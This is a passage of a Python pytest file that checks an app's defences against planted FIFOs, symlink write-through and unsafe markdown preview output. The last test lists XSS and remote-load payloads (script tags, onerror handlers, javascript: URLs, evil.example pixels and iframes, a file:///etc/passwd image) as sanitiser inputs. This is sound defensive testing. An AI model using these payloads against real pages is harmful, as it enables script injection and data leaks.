"""


@needs_fifo
@pytest.mark.parametrize("what", ["fifo", "dev-zero"])
def test_a_fifo_or_dev_zero_at_the_scan_and_recall_caches_does_not_hang_an_open(
        agent_copy: Path, tmp_path: Path, what: str) -> None:
    cache_dir = tmp_path / "scan-cache"
    lib = RockBotLibrary.open(agent_copy, cache_dir=cache_dir)
    assert lib.scan_cache is not None
    for path in (lib.scan_cache.path, lib.scan_cache.recall_path):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        if what == "fifo":
            os.mkfifo(path)
        else:
            path.symlink_to("/dev/zero")
    done = subprocess.run([sys.executable, "-c", _OPEN_WITH_CACHES, str(agent_copy), str(cache_dir)],
                          capture_output=True, text=True, cwd=REPO, timeout=TIMEOUT, check=False,
                          env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == [str(len(lib)), "True"]


@needs_fifo
def test_the_log_never_blocks_on_or_writes_through_what_is_planted_at_its_name(tmp_path: Path) -> None:
    script = textwrap.dedent("""
        import logging, sys
        from pathlib import Path
        from rockskills_gui.core.app.logs import configure_logging, remove_logging
        for name in sys.argv[1:]:
            configure_logging(path=Path(name))
            logging.getLogger("t").warning("a record")
            remove_logging()
        print("done")
    """)
    fifo, link, target = tmp_path / "fifo.log", tmp_path / "link.log", tmp_path / "elsewhere.txt"
    os.mkfifo(fifo)
    target.write_text("kept\n")
    link.symlink_to(target)
    done = subprocess.run([sys.executable, "-c", script, str(fifo), str(link)], capture_output=True,
                          text=True, cwd=REPO, timeout=TIMEOUT, check=False,
                          env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.stdout == "done\n", done.stderr
    assert target.read_text() == "kept\n"


# ---------------------------------------------------------------- writes through links (item 14)


def _query_set(agent: Path) -> Path:
    path = agent / "recall-tests" / "set.json"
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps({"name": "set", "queries": [{"query": "send an email",
                                                            "expected": ["mcp/email"]}]}))
    return path


@pytest.mark.parametrize("linked", ["recall-tests", "recall-tests/snapshots"])
def test_a_snapshot_is_never_written_through_a_link_leaving_the_library(agent_copy: Path, tmp_path: Path,
                                                                        linked: str) -> None:
    """``recall-test SET --snapshot N`` followed a symlinked ``recall-tests/`` or ``snapshots/``."""
    outside = tmp_path / "outside"
    outside.mkdir()
    if linked == "recall-tests":
        (agent_copy / "recall-tests").symlink_to(outside, target_is_directory=True)
        query_set = _query_set(agent_copy)
    else:
        query_set = _query_set(agent_copy)
        (agent_copy / linked).symlink_to(outside, target_is_directory=True)
    before = everything(outside)
    done = rockskills("recall-test", agent_copy, query_set, "--snapshot", "nightly")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "is a symbolic link leaving the library" in done.stderr and "not written" in done.stderr
    assert everything(outside) == before


def test_the_query_set_writer_refuses_links_and_writes_atomically(agent_copy: Path, tmp_path: Path) -> None:
    """The Recall pane's writer followed a symlinked set file, created the target of a dangling
    one, and rewrote the file in place."""
    from rockskills_gui.core.recall.queryset import QueryCase, QuerySet, QuerySetError, save_query_set

    layout = RockBotLibrary.open(agent_copy).layout
    updated = QuerySet(name="set", queries=[QueryCase(query="calendar", expected=["mcp/calendar"])])
    outside = tmp_path / "outside.json"
    outside.write_text("not yours\n")
    linked = agent_copy / "recall-tests" / "linked.json"
    linked.parent.mkdir()
    linked.symlink_to(outside)
    dangling = agent_copy / "recall-tests" / "dangling.json"
    dangling.symlink_to(tmp_path / "created.json")
    for path in (linked, dangling):
        with pytest.raises(QuerySetError, match=r"a symbolic link .*not written through it"):
            save_query_set(layout, path, updated)
    assert outside.read_text() == "not yours\n" and not (tmp_path / "created.json").exists()
    with pytest.raises(QuerySetError, match="outside the library"):
        save_query_set(layout, tmp_path / "elsewhere.json", updated)
    real = _query_set(agent_copy)
    old = real.read_bytes()
    (tmp_path / "hard-link.json").hardlink_to(real)  # an in-place write would change it too
    save_query_set(layout, real, updated)
    assert (tmp_path / "hard-link.json").read_bytes() == old
    assert json.loads(real.read_text())["queries"][0]["query"] == "calendar"


def test_a_link_planted_at_a_cache_files_temp_name_is_never_written_through(agent_copy: Path,
                                                                           tmp_path: Path) -> None:
    """The app's own cache writer (scan and recall caches, the code cache) wrote its temp file
    ``<name>.<pid>.tmp`` with O_TRUNC: a link planted under that name was written through."""
    victim = tmp_path / "victim.txt"
    victim.write_text("kept\n")
    lib = RockBotLibrary.open(agent_copy, cache_dir=tmp_path / "scan-cache")
    assert lib.scan_cache is not None
    cache = lib.scan_cache.path
    cache.parent.mkdir(parents=True, exist_ok=True)
    cache.with_name(f"{cache.name}.{os.getpid()}.tmp").symlink_to(victim)
    cache.unlink(missing_ok=True)
    cache.symlink_to(victim)  # and one at the name itself: replaced, not followed
    lib.scan_cache.save([])
    assert victim.read_text() == "kept\n"
    assert cache.is_file() and not cache.is_symlink()


# ---------------------------------------------------------------- the preview


ALLOWED_TAGS = {"p", "a", "pre", "code", "em", "strong", "s", "h1", "h2", "h3", "h4", "h5", "h6", "ul",
                "ol", "li", "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}
ALLOWED_ATTRS = {"name", "href", "title", "class", "style", "start"}


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


@pytest.mark.parametrize("source", [
    "<script>alert(1)</script>",
    "<img src=https://evil.example/pixel.png onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    "<object data=https://evil.example/x.swf></object>",
    "<svg onload=alert(1)><image href=https://evil.example/i.png /></svg>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "[click](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](https://evil.example/pixel.png)",
    "![local](file:///etc/passwd)",
    "![ref][r]\n\n[r]: https://evil.example/ref.png",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<div style=\"background-image:url('https://evil.example/x.png')\">x</div>",
    "```html\n<script>alert(1)</script>\n```",
])
def test_the_preview_html_carries_no_markup_from_the_skill(source: str) -> None:
    """Only the renderer's own tags and attributes; links only to http(s), mailto or an anchor."""
    parser = _Collect()
    parser.feed(render(source).html)
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (source, tag)
        for attr, value in attrs:
            assert attr in ALLOWED_ATTRS, (source, tag, attr)
            if attr == "href":
                assert (value or "").startswith(("http://", "https://", "mailto:", "#")), (source, value)
            if attr == "style":
                assert "url(" not in (value or ""), (source, value)
